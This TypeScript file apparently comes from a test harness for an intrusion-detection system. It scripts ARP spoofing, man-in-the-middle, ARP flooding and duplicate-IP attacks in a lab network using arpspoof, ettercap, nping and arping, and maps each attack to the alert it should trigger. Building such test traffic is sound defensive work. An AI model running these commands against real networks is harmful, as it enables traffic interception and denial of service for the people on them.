/** A host that takes the address of another by ARP. */
import type { Site } from '../site.ts';
import type { Attack, Plan } from './attack.ts';

const speeds = { fast: [2, 10], medium: [0.5, 1], slow: [0.1, 0.2] } as const;
const shared = { alerts: ['arp.spoof'], technique: 'T1557.002', speeds } as const;

/** The victim and the gateway have just spoken to each other. */
function acquainted(site: Site, command: string, seconds: number, from: 'alice' | 'evil' = 'evil'): Plan {
  const before = { host: 'alice' as const, argv: ['ping', '-q', '-c', '2', '-i', '0.3', site.address('gateway')] };
  const attackers = [site.mac(from)];
  return {
    jobs: [before, { host: 'evil', argv: ['bash', '-c', `sleep 1.5; ${command}`] }],
    attackers,
    victims: [site.address('gateway'), site.address('alice')],
    seconds,
  };
}

/** One ARP packet by arping or a few by nping; `operation` of ARP. */
function nping(site: Site, rate: number, count: number, operation: 'ARP-reply' | 'ARP'): Plan {
  const command =
    `nping -q -e eth0 --arp --arp-type ${operation} --arp-sender-mac ${site.mac('evil')} --arp-sender-ip ${site.address('gateway')} ` +
    `--arp-target-mac ${site.mac('alice')} --arp-target-ip ${site.address('alice')} --dest-mac ${site.mac('alice')} -c ${count} --rate ${Math.max(1, Math.round(rate))} ${site.address('alice')}`;
  return acquainted(site, command, 20);
}

/** Two hosts with one address, both of which go on using it. */
function duplicate(site: Site, rate: number): Plan {
  const address = site.address('bob');
  const announce = (mac: string) => `arping -q -U -c 1 -i eth0 -s ${mac} -S ${address} ${address}; sleep ${(1 / rate).toFixed(2)}; `;
  const owner = { host: 'bob' as const, argv: ['bash', '-c', announce(site.mac('bob')).repeat(4)] };
  const rival = {
    host: 'evil' as const,
    argv: ['bash', '-c', `sleep ${(0.5 / rate).toFixed(2)}; ${announce(site.mac('evil')).repeat(4)}`],
  };
  return { jobs: [owner, rival], attackers: [site.mac('evil'), site.mac('bob')], victims: [address], seconds: 8 / rate + 20 };
}

export const arpAttacks: readonly Attack[] = [
  {
    ...shared,
    class: 'arp.spoof',
    tool: 'arpspoof',
    needs: ['arpspoof'],
    plan: (site) => acquainted(site, `exec timeout -s INT 8 arpspoof -i eth0 -t ${site.address('alice')} ${site.address('gateway')}`, 14),
  },
  {
    ...shared,
    class: 'arp.spoof',
    tool: 'ettercap',
    needs: ['ettercap'],
    plan: (site) =>
      acquainted(
        site,
        `exec timeout -s INT 16 ettercap -T -q -i eth0 -M arp:remote /${site.address('alice')}// /${site.address('gateway')}// < <(sleep 15)`,
        22,
      ),
  },
  {
    ...shared,
    class: 'arp.spoof.single',
    tool: 'nping',
    needs: ['nping'],
    plan: (site, rate) => nping(site, rate, 1, 'ARP-reply'),
  },
  {
    ...shared,
    class: 'arp.spoof.request',
    tool: 'nping',
    needs: ['nping'],
    plan: (site, rate) => nping(site, rate, 5, 'ARP'),
  },
  {
    ...shared,
    class: 'arp.spoof.broadcast',
    tool: 'arpspoof',
    needs: ['arpspoof'],
    plan: (site) => acquainted(site, `exec timeout -s INT 8 arpspoof -i eth0 ${site.address('gateway')}`, 14),
  },
  {
    class: 'flood.arp',
    alerts: ['flood.arp'],
    technique: 'T1498.001',
    tool: 'nping',
    needs: ['nping'],
    speeds: { fast: [2000, 4000] },
    plan: (site, rate) => ({
      jobs: [
        {
          host: 'evil',
          argv: `nping --arp -q -H -N --rate ${Math.round(rate)} -c ${Math.round(4 * rate)} ${site.address('web')}`.split(' '),
        },
      ],
      attackers: [site.mac('evil')],
      victims: [site.address('web')],
      seconds: 8,
    }),
  },
  {
    ...shared,
    class: 'arp.duplicate',
    alerts: ['arp.duplicate-ip', 'arp.spoof'],
    tool: 'arping',
    needs: ['arping'],
    plan: duplicate,
  },
];
